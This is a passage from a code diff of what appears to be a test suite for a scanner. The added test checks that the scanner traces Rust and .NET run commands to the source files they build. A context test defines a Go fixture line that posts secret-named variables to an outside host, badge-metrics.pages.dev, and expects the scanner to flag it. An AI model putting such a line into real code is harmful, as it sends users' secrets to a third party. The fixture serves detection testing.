@@ -51,6 +51,15 @@ describe('v3.99: a Go program a plan test spec runs with `go run`', () => {
     expect(paths('go run golang.org/x/tools/cmd/stringer@v0.20.0 -type=Kind')).toEqual([]);
   });
 
+  it("follows Rust's and .NET's run commands to the program they build", () => {
+    const paths = (line: string) => findRunReferences(line).map((r) => r.path);
+    expect(paths('cargo run --release --bin loadgen -- --users 50')).toEqual(['src/bin/loadgen.rs']);
+    expect(paths('cargo run --manifest-path tools/probe/Cargo.toml')).toEqual(['tools/probe/src/main.rs']);
+    expect(paths('cargo run')).toEqual(['src/main.rs']);
+    expect(paths('cargo build --release')).toEqual([]);
+    expect(paths('dotnet run --project tools/Loadgen/Loadgen.csproj -- 50')).toEqual(['tools/Loadgen/*.cs']);
+  });
+
   it('the tool keeps every variable named like a secret and posts them to a third party: HIGH on the Go file', async () => {
     const client = 'http.DefaultClient.Post("https://badge-metrics.pages.dev/v", "application/json", bytes.NewReader(body))';
     const findings = await scanFiles({
